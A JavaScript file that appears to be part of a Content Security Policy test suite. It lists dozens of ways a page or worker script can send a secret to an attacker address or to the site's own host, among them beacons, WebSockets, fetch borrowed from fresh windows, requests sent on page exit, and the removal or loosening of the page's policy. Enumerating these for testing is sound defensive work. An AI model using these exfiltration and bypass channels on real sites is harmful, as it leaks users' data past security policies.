/** Channels by requests of a script, to the attacker or, with the canary in the address, to the site's own host. */

way("fetch", ({ address }) => fetch(address), WORKER_TOO);
way("fetch by POST, with no answer wanted", ({ attacker, secret }) => fetch(attacker, { method: "POST", mode: "no-cors", body: secret }), WORKER_TOO);
way("fetch with a header", ({ attacker, secret }) => fetch(`${attacker}/x`, { headers: { "X-Note": secret } }), WORKER_TOO);
way("fetch that outlives the page", ({ address }) => fetch(address, { keepalive: true, method: "POST", body: "x", mode: "no-cors" }), WORKER_TOO);
way("fetch for later", ({ address }) => fetchLater(address, { activateAfter: 0 }));
way("fetch through a Request", ({ address }) => fetch(new Request(address, { cache: "force-cache" })), WORKER_TOO);
way("XMLHttpRequest", ({ address }) => request(address, true), WORKER_TOO);
way("XMLHttpRequest that blocks", ({ address }) => request(address, false), WORKER_TOO);
way("beacon", ({ attacker, secret }) => navigator.sendBeacon(attacker, secret));
way("event source", ({ address }) => new Promise((done) => (new EventSource(`${address}.events`).onerror = done)), WORKER_TOO);
way("WebSocket", ({ socket }) => new WebSocket(socket).url, WORKER_TOO);
way("WebSocket stream", ({ socket }) => new WebSocketStream(socket).opened, WORKER_TOO);
way("WebTransport", ({ trap }) => new WebTransport(`https://127.0.0.1:${trap}/`).ready, { where: "both", trap: true });
way("fetch from a fresh window", ({ address }) => freshWindow().fetch(address));
way("XMLHttpRequest from a fresh window", ({ address }) => request(address, true, freshWindow().XMLHttpRequest));
way("WebSocket from a fresh window", ({ socket }) => new (freshWindow().WebSocket)(socket).url);
way("beacon from a fresh window", ({ attacker, secret }) => freshWindow().navigator.sendBeacon(attacker, secret));

way("own host: fetch", ({ own, secret }) => fetch(`${own}/?${secret}`), WORKER_TOO);
way("own host: XMLHttpRequest", ({ own, secret }) => request(`${own}/?${secret}`, true), WORKER_TOO);
way("own host: beacon", ({ own, secret }) => navigator.sendBeacon(`${own}/?${secret}`));
way("own host: event source", ({ own, secret }) => new EventSource(`${own}/?${secret}`).url, WORKER_TOO);
way("own host: WebSocket", ({ own, secret }) => new WebSocket(`${own.replace("http", "ws")}/?${secret}`).url, WORKER_TOO);
way("own host: fetch from a fresh window", ({ own, secret }) => freshWindow().fetch(`${own}/?${secret}`));
way("own host: fetch for later", ({ own, secret }) => fetchLater(`${own}/?${secret}`, { activateAfter: 0 }));

way("fetch after the policy's elements are removed", ({ address }) => {
  for (const meta of document.querySelectorAll("meta[http-equiv]")) meta.remove();
  return fetch(address);
}, ALONE);
way("fetch after a looser policy is added", ({ address }) => {
  put("meta", { "http-equiv": "Content-Security-Policy", content: "connect-src *" }, document.head);
  return fetch(address);
}, ALONE);

way("on leaving: fetch that outlives the page", ({ address }) => leaving(() => fetch(address, { keepalive: true })), ON_LEAVING);
way("on leaving: beacon", ({ address }) => leaving(() => navigator.sendBeacon(address)), ON_LEAVING);
way("on leaving: fetch for later", ({ address }) => fetchLater(address), ON_LEAVING);
way("on leaving: own host, beacon", ({ own, secret }) => leaving(() => navigator.sendBeacon(`${own}/?${secret}`)), ON_LEAVING);

/** @param {string} address @param {boolean} waits @param {typeof XMLHttpRequest} [Kind] */
function request(address, waits, Kind = XMLHttpRequest) {
  const it = new Kind();
  it.open("GET", address, waits);
  it.send();
}

/** @param {() => void} act */
function leaving(act) {
  addEventListener("pagehide", act);
}
